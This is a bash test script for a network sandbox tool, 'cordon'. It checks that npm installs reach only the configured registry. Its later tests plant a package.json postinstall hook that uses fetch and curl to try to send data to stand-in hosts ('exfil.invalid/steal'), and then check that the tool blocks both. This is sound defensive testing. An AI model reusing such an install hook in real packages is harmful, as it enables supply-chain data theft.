#!/usr/bin/env bash
# §6b end to end with the real npm registry: `cordon -p npm -- npm install` reaches the registry
# npm is configured for, and nothing else. The registry's URL is what `npm config get registry`
# says here, at run time; the host an install script tries instead is reserved (*.invalid), so
# that nothing can reach any other address. Skipped, with the reason, where npm is missing or
# its registry does not answer.
source "$TESTLIB"

if ! command -v npm >/dev/null || ! command -v node >/dev/null; then
  skip "npm and node are not installed"
  finish
  exit $?
fi
registry=$(cd / && npm config get registry 2>/dev/null)
host=$(sed -E 's#^[a-z]+://([^/@]*@)?([^/]+).*#\2#' <<<"$registry")
if [[ -z $host || $registry != http* ]]; then
  skip "npm names no registry (npm config get registry: '$registry')"
  finish
  exit $?
fi
if ! curl -sS --max-time 15 -o /dev/null "${registry%/}/left-pad"; then
  skip "npm's registry does not answer from this host"
  finish
  exit $?
fi
export NPM_CONFIG_UPDATE_NOTIFIER=false NPM_CONFIG_AUDIT=false NPM_CONFIG_FUND=false

# The npm profile allows the registry npm is configured for, found at run time.
run "$CORDON" -p npm --dry-run -- true
expect_out "^ +${host//./\\.}(:[0-9]+)? \(port" "-p npm allows npm's configured registry host"
grep -E '^ {12}[^ ].*\(port [0-9, ]+\)$' "$OUT/out" | grep -vE "^ +${host//./\\.}(:[0-9]+)? \(port" >"$OUT/others" || true
if [[ ! -s $OUT/others ]]; then ok "-p npm allows nothing else"
else not_ok "-p npm allows more: $(head -3 "$OUT/others" | tr '\n' ' ')"; fi
run env npm_config_registry=http://registry.example.invalid:8080/ "$CORDON" -p npm --dry-run -- true
expect_out '^ +registry.example.invalid:8080 \(port 8080\)$' "-p npm follows npm_config_registry"

# A fresh project: npm install left-pad through the filter.
mkdir -p "$WORK/proj" && cd "$WORK/proj"
printf '{ "name": "cordon-net-test", "version": "1.0.0" }\n' >package.json
run "$CORDON" -p npm --status-json "$OUT/install.json" -- npm install --no-audit --no-fund left-pad
expect_rc 0 "npm install left-pad through -p npm"
[[ -f node_modules/left-pad/package.json ]] && ok "left-pad is installed" || not_ok "left-pad is not installed"
grep -q '"denials":\[\]' "$OUT/install.json" && ok "the install needed nothing the filter refused" ||
  not_ok "the install met refusals: $(head -c 300 "$OUT/install.json")"

# An install script that tries to send something elsewhere: node's fetch (which ignores the proxy
# variables: the jail's resolver knows no such name) and curl (through the proxy: a 403).
mkdir -p "$WORK/proj2" && cd "$WORK/proj2"
cat >package.json <<'EOF'
{ "name": "cordon-net-test2", "version": "1.0.0", "dependencies": { "left-pad": "*" },
  "scripts": { "postinstall": "node -e \"fetch('https://exfil.invalid/steal').then(() => console.log('LEAKED'), e => console.log('fetch blocked', (e.cause && e.cause.code) || e.message))\"; curl -sS --max-time 10 https://exfil2.invalid/steal || echo curl blocked" } }
EOF
run "$CORDON" -p npm --status-json "$OUT/post.json" -- npm install --no-audit --no-fund --foreground-scripts
expect_rc 0 "npm install with a postinstall script through -p npm"
expect_out 'fetch blocked ENOTFOUND' "the postinstall's fetch to another host does not resolve"
expect_out 'curl blocked' "the postinstall's curl through the proxy is refused"
expect_no_out '^LEAKED$' "nothing leaves"
expect_err '^cordon: network: refused exfil.invalid ' "the refusal of the name is on stderr"
expect_err '^cordon: network: refused exfil2.invalid:443 ' "the proxy's refusal is on stderr"
if grep -q '"kind":"network","host":"exfil.invalid"' "$OUT/post.json" &&
  grep -q '"kind":"network","host":"exfil2.invalid","port":443' "$OUT/post.json"; then
  ok "both refusals are in the status JSON"
else not_ok "the refusals are not in the status JSON: $(head -c 400 "$OUT/post.json")"; fi
[[ -f node_modules/left-pad/package.json ]] && ok "and the install itself worked" || not_ok "left-pad is not installed"

# The same in the Landlock jail (cordon(1), ISOLATION), where a syscall filter like Docker's
# default profile refuses user namespaces: npm reads the proxy variables, and the supervisor's
# proxy on the host's loopback is the only place the jail can connect to.
NOUSERNS=$(dirname "$CORDON")/cordon-test-nouserns
mkdir -p "$WORK/proj3" && cd "$WORK/proj3"
cp "$WORK/proj2/package.json" package.json
run "$NOUSERNS" "$CORDON" -p npm --status-json "$OUT/ll.json" -- npm install --no-audit --no-fund --foreground-scripts
expect_rc 0 "landlock: npm install through -p npm"
expect_err 'running in a Landlock jail' "landlock: in the Landlock jail"
[[ -f node_modules/left-pad/package.json ]] && ok "landlock: left-pad is installed" || not_ok "landlock: left-pad is not installed"
expect_out 'fetch blocked (EAI_AGAIN|ENOTFOUND|EACCES)' "landlock: the postinstall's fetch past the proxy gets nothing"
expect_out 'curl blocked' "landlock: the postinstall's curl through the proxy is refused"
expect_no_out '^LEAKED$' "landlock: nothing leaves"
expect_err '^cordon: network: refused exfil2.invalid:443 ' "landlock: the proxy's refusal is on stderr"
grep -q '"isolation":"landlock"' "$OUT/ll.json" && ok "landlock: the status says so" || not_ok "status: $(head -c 300 "$OUT/ll.json")"

finish
